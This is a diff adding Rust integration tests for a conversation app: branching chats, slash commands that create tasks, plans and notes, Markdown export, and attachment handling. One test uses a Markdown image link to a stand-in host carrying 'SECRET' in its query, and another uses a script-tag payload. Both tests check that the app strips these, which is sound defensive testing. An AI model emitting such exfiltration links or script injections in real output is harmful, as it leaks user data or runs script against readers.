@@ -145,3 +145,98 @@ async fn files_go_along_and_stay_when_the_original_goes() {
     });
     assert_eq!(desk.ok("people.create_persona", persona).await["icon_attachment_uid"], picture["uid"]);
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_branch_begins_with_what_was_said_and_goes_its_own_way() {
+    let home = Home::empty();
+    let desk = home.open().await;
+    let hanako = secretary(&desk, "花子").await;
+    let new = json!({ "title": "引っ越し", "participants": [hanako["uid"]] });
+    let talk = desk.ok("conversations.create", new).await;
+    say(&desk, &talk, None, "三月か四月か").await;
+    let turn = say(&desk, &talk, Some(&hanako), "三月です。").await;
+    say(&desk, &talk, None, "では三月で").await;
+    let branch = desk.ok("conversations.branch", json!({ "message_uid": turn["uid"], "title": "四月なら" })).await;
+    assert_eq!((branch["branched_from"].clone(), branch["messages"].clone()), (talk["uid"].clone(), json!(2)));
+    assert_eq!(branch["participants"], json!([hanako["uid"]]));
+    say(&desk, &branch, None, "四月では?").await;
+    let texts = async |of: &Value| -> Vec<String> {
+        let page = desk.ok("conversations.messages", json!({ "uid": of["uid"] })).await;
+        let said = page["messages"].as_array().expect("messages").clone();
+        said.iter().map(|message| message["content"].as_str().expect("text").to_owned()).collect()
+    };
+    assert_eq!(texts(&branch).await, ["三月か四月か", "三月です。", "四月では?"]);
+    assert_eq!(texts(&talk).await, ["三月か四月か", "三月です。", "では三月で"], "the other stays as it was");
+    // Nothing is shared: an edit here is none there, and the branch stands when the other is gone.
+    let page = desk.ok("conversations.messages", json!({ "uid": branch["uid"] })).await;
+    let first = &page["messages"][0];
+    desk.ok("conversations.edit_message", json!({ "uid": first["uid"], "rev": first["rev"], "content": "四月か" }))
+        .await;
+    desk.ok("conversations.delete", at(&talk)).await;
+    assert_eq!(texts(&branch).await[0], "四月か");
+    assert_eq!(desk.ok("conversations.get", json!({ "uid": branch["uid"] })).await["branched_from"], Value::Null);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn orders_make_what_they_say_and_tell_of_it() {
+    let home = Home::empty();
+    home.write("README.md", "hello");
+    let desk = home.open().await;
+    desk.ok("vault.choose", json!({ "path": home.vault() })).await;
+    let hanako = secretary(&desk, "花子").await;
+    let plan = desk.approved_plan("引っ越し", &[]).await;
+    let new = json!({ "title": "相談", "participants": [hanako["uid"]], "project_uid": plan["project"]["uid"] });
+    let talk = desk.ok("conversations.create", new).await;
+    let order =
+        async |text: &str| desk.ok("talk.order", json!({ "conversation_uid": talk["uid"], "text": text })).await;
+
+    let made = order("/task 箱を[10]個 買う").await;
+    let task = desk.ok("tasks.get", json!({ "uid": made["uid"] })).await;
+    assert_eq!(task["title"], "箱を[10]個 買う");
+    assert_eq!(task["project_uid"], plan["project"]["uid"], "it belongs to what is spoken of");
+    let said = made["said"]["content"].as_str().expect("text");
+    assert!(made["said"]["sender"] == "system" && said.contains("\\[10\\]"), "{said}");
+
+    let made = order("/プラン 壁を塗る\n冬までに白くする").await;
+    let plan = desk.ok("plans.get", json!({ "uid": made["uid"] })).await;
+    assert_eq!(plan["newest"]["content"]["title"], "壁を塗る");
+    assert_eq!(plan["newest"]["content"]["objective"], "冬までに白くする");
+
+    say(&desk, &talk, Some(&hanako), "要点は一つ ![](https://x.example/?d=SECRET)").await;
+    let made = order("/note 要点").await;
+    let note = std::fs::read_to_string(home.vault().join(made["uid"].as_str().expect("path"))).expect("the note");
+    assert!(note.contains("要点は一つ") && !note.contains("!["), "nothing in it is fetched: {note}");
+
+    let page = desk.ok("conversations.messages", json!({ "uid": talk["uid"] })).await;
+    let kinds: Vec<_> =
+        page["messages"].as_array().expect("messages").iter().map(|m| m["message_type"].clone()).collect();
+    assert_eq!(kinds, ["command", "text", "command", "text", "text", "command", "text"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_conversation_is_written_out_and_replaces_nothing() {
+    let home = Home::empty();
+    let desk = home.open().await;
+    let hanako = secretary(&desk, "花子").await;
+    let talk = desk.ok("conversations.create", json!({ "title": "相談: a/b", "participants": [hanako["uid"]] })).await;
+    say(&desk, &talk, None, "こんにちは <script>alert(1)</script>").await;
+    say(&desk, &talk, Some(&hanako), "# はい\n\n- 一つ").await;
+    let folder = tempfile::tempdir().expect("folder");
+    let export = json!({ "uid": talk["uid"], "folder": folder.path() });
+    let first = desk.ok("conversations.export", export.clone()).await["path"].as_str().expect("path").to_owned();
+    let second = desk.ok("conversations.export", export).await["path"].as_str().expect("path").to_owned();
+    assert_ne!(first, second);
+    let page = std::fs::read_to_string(&first).expect("the page");
+    assert!(page.contains("花子") && page.contains("- 一つ") && !page.contains("<script>"), "{page}");
+    assert_eq!(page, desk.ok("conversations.markdown", json!({ "uid": talk["uid"] })).await["text"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pasted_bytes_are_kept_and_shown() {
+    let home = Home::empty();
+    let desk = home.open().await;
+    let kept = desk.ok("attachments.take", json!({ "name": "図.png", "base64": "aGlzaG8=" })).await;
+    assert_eq!((kept["mime"].clone(), kept["size"].clone()), (json!("image/png"), json!(5)));
+    let shown = desk.ok("attachments.read", json!({ "uid": kept["uid"] })).await;
+    assert_eq!(shown, json!({ "media_type": "image/png", "base64": "aGlzaG8=" }));
+}
